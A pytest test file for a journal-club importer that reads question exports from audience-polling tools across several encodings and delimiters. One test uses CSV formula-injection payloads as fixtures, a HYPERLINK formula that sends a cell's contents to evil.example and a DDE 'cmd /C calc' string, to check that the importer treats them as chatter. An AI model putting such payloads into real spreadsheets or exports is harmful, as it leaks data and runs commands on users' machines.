from __future__ import annotations

import pytest

from journalclub.errors import JcError
from journalclub.questions.recognise import read_export
from journalclub.questions.source import Source
from tests.questions.importers import counts, sorted_out

SLIDO = """\
Post ID,Body,Posted by,Upvotes,Status,Anonymous,Created at
1,"Why does the target network help, is it in Table 3?",Ada,12,highlighted,FALSE,2026-11-19 18:04:10
2,How was the frame skip of 4 chosen,Ben,5,approved,TRUE,2026-11-19 18:06:55
3,great talk!!,Cleo,3,approved,FALSE,2026-11-19 18:09:00
4,,Dan,0,draft,FALSE,2026-11-19 18:14:00
5,cheap followers at https://spam.example/buy?n=1000,visitor,0,rejected,FALSE,2026-11-19 18:12:00
"""
OWN = "Frage;Name;Stimmen\r\nMir ist unklar, warum Abb. 5 fällt;Jürgen Weiß;3\r\ngrüße an alle;Jürgen Weiß;0\r\n"


def test_columns_are_told_by_their_heads() -> None:
    collected = sorted_out(SLIDO)
    assert collected.format == "csv"
    assert counts(collected) == (2, 0, 0, 2, 0, 1)
    assert [(q.author, q.votes, q.time) for q in collected.questions] == [
        ("Ada", 12, "2026-11-19 18:04:10"),
        (None, 5, "2026-11-19 18:06:55"),
    ]


@pytest.mark.parametrize(
    "encoding", ["latin-1", "cp1252", "utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"]
)
def test_every_usual_encoding_is_read_right(encoding: str) -> None:
    (question,) = sorted_out(OWN.encode(encoding)).questions
    assert (question.text, question.author, question.votes) == (
        "Mir ist unklar, warum Abb. 5 fällt",
        "Jürgen Weiß",
        3,
    )


@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
def test_every_usual_delimiter_is_found(delimiter: str) -> None:
    cells = ["Question", "Author", "Likes"], ['"Why, oh why, is Table 2 so; long | wide?"', "Ada", "4"]
    text = "\n".join(delimiter.join(record) for record in cells)
    (question,) = sorted_out(text).questions
    assert (question.author, question.votes) == ("Ada", 4)


def test_formulas_are_chatter_but_a_question_may_begin_like_one() -> None:
    text = (
        'Question,Name\n"=HYPERLINK(""http://evil.example/?x=""&B2,""click for the slides?"")",a\n'
        "@SUM(1+1)*cmd|' /C calc'!A0,b\n=Table 3: what is the gain of the larger model?,=A\n"
    )
    collected = sorted_out(text)
    assert counts(collected) == (1, 0, 0, 2, 0, 0)
    assert collected.questions[0].author == "=A"


def test_columns_can_be_named() -> None:
    text = "A,B,C\nAda,Why is Table 2 so long?,7\n"
    source = Source("x.csv", text)
    row = read_export(source, None, {"text": "b", "name": "A", "votes": "C"}).rows[0]
    assert (row.text, row.author, row.votes) == ("Why is Table 2 so long?", "Ada", 7)
    for wrong in ({"text": "D"}, {"colour": "A"}, {"name": "A"}):
        with pytest.raises(JcError):
            read_export(source, None, wrong)
    with pytest.raises(JcError, match=r"no column 'D'; the columns are: A, B, C\.$"):
        read_export(source, None, {"text": "D"})


def test_a_table_in_which_nothing_can_be_a_question_names_its_columns() -> None:
    with pytest.raises(
        JcError, match=r"hold questions \(Name, Time, Votes\); say which: --columns text=NAME"
    ):
        read_export(Source("x.csv", "Name,Time,Votes\nAda,18:05,3\n"), "csv")


def test_records_that_say_they_are_private_have_no_text() -> None:
    text = "Question,Private\nWhy is Table 2 so long?,no\nWhy is Ada so late?,yes\n"
    assert counts(sorted_out(text)) == (1, 0, 0, 0, 1, 0)


def test_without_any_known_head_the_longest_text_and_the_only_count_are_taken() -> None:
    text = "Nr,Was,Wer,Plus\n1,Warum ist Tabelle 2 so lang und breit?,Ada,4\n2,Wie kommt man von (3) auf (4)?,Ben,4\n"
    assert [(q.text[:5], q.votes) for q in sorted_out(text).questions] == [("Warum", 4), ("Wie k", 4)]
